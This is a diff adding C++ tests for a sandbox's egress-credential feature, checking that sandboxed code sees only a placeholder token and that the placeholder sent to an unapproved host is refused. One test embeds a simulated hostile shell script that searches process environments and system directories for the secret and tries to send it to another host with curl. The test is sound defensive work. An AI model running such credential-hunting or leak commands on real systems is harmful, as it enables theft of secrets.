@@ -193,5 +193,75 @@ TEST(Egress, NoNetworkByDefault) {
   EXPECT_TRUE(r.record["egress"].empty());
 }
 
+// A credential granted for one host (--egress-credential): hostile code that looks for the value
+// everywhere it can reach finds only the placeholder; the host gets the value; an echo of it
+// comes back masked; the placeholder sent to any other host is refused and recorded.
+TEST(Egress, EgressCredentialIsUsedButNeverHeldBySandboxedCode) {
+  const std::string secret = "ghp_RealValue0123456789abcdefXYZ";
+  LoopbackHttpServer server("", /*echo=*/true);
+  const std::string port = server.port_text();
+  const std::string script =
+      "echo \"seen=$API_TOKEN\"; "
+      "grep -rals 'R[e]alValue' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp /etc 2>/dev/null | sed 's/^/found:/'; "
+      "curl -sS -H \"Authorization: Bearer $API_TOKEN\" 'http://allowed.test:" + port + "/?k='\"$API_TOKEN\"; echo; "
+      "curl -sS -w ' %{http_code}' 'http://other.test:" + port + "/?leak='\"$API_TOKEN\"; echo";
+  Invocation inv;
+  inv.args = {"run", "--allow", "allowed.test:" + port, "--allow", "other.test:" + port, "--resolve",
+              "allowed.test=127.0.0.1", "--resolve", "other.test=127.0.0.1", "--egress-credential",
+              "API_TOKEN=allowed.test:" + port, "--", "sh", "-c", script};
+  inv.extra_env = {{"API_TOKEN", secret}};
+  auto r = RunWarden(inv);
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_EQ(r.out.find("RealValue"), std::string::npos) << "the sandbox saw the value:\n" << r.out;
+  EXPECT_EQ(r.out.find("found:"), std::string::npos) << r.out;
+  EXPECT_EQ(r.record.dump().find("RealValue"), std::string::npos) << r.record.dump();
+  // The placeholder: as long as the value, and what the echo shows in its place.
+  auto seen = r.out.find("seen=");
+  ASSERT_NE(seen, std::string::npos) << r.out;
+  const std::string placeholder = r.out.substr(seen + 5, secret.size());
+  EXPECT_NE(r.out.find("Authorization: Bearer " + placeholder), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("GET /?k=" + placeholder), std::string::npos) << r.out;
+  // What the host received: the value, in the header and in the query.
+  EXPECT_NE(server.last_request().find("Authorization: Bearer " + secret), std::string::npos) << server.last_request();
+  EXPECT_NE(server.last_request().find("GET /?k=" + secret), std::string::npos);
+  EXPECT_EQ(server.requests(), 1) << "the request to other.test never reached it";
+  EXPECT_NE(r.out.find("may only go to allowed.test:" + port + "\n 403"), std::string::npos) << r.out;
+  bool refused = false;
+  for (const auto& rec : r.record["egress"])
+    refused |= rec["host"] == "other.test" && rec["allowed"] == false &&
+               rec["rule_or_reason"].get<std::string>().find("credential API_TOKEN") != std::string::npos;
+  EXPECT_TRUE(refused) << r.record["egress"].dump();
+}
+
+TEST(Egress, EgressCredentialMistakesAre125NamingTheCredential) {
+  Invocation unset;
+  unset.args = {"run", "--allow", "api.example.com", "--egress-credential", "NOT_SET_ANYWHERE=api.example.com", "--", "true"};
+  auto a = RunWarden(unset);
+  EXPECT_EQ(a.exit_code, 125);
+  EXPECT_NE(a.err.find("--egress-credential NOT_SET_ANYWHERE: not set in warden's environment"), std::string::npos) << a.err;
+
+  Invocation not_allowed;
+  not_allowed.args = {"run", "--allow", "api.example.com", "--egress-credential", "TOKEN=other.example.com:8080", "--", "true"};
+  not_allowed.extra_env = {{"TOKEN", "value-0123456789"}};
+  auto b = RunWarden(not_allowed);
+  EXPECT_EQ(b.exit_code, 125);
+  EXPECT_NE(b.err.find("other.example.com:8080 is not on the allow list"), std::string::npos) << b.err;
+  EXPECT_EQ(b.err.find("value-0123456789"), std::string::npos);
+
+  Invocation no_net;
+  no_net.args = {"run", "--net", "none", "--egress-credential", "TOKEN=api.example.com", "--", "true"};
+  no_net.extra_env = {{"TOKEN", "value-0123456789"}};
+  auto c = RunWarden(no_net);
+  EXPECT_EQ(c.exit_code, 125);
+  EXPECT_NE(c.err.find("needs --net proxy"), std::string::npos) << c.err;
+
+  Invocation both;
+  both.args = {"run", "--allow", "api.example.com", "--env-inherit", "TOKEN", "--egress-credential", "TOKEN=api.example.com", "--", "true"};
+  both.extra_env = {{"TOKEN", "value-0123456789"}};
+  auto d = RunWarden(both);
+  EXPECT_EQ(d.exit_code, 125);
+  EXPECT_NE(d.err.find("the sandbox may only see the placeholder"), std::string::npos) << d.err;
+}
+
 }  // namespace
 }  // namespace warden::testing
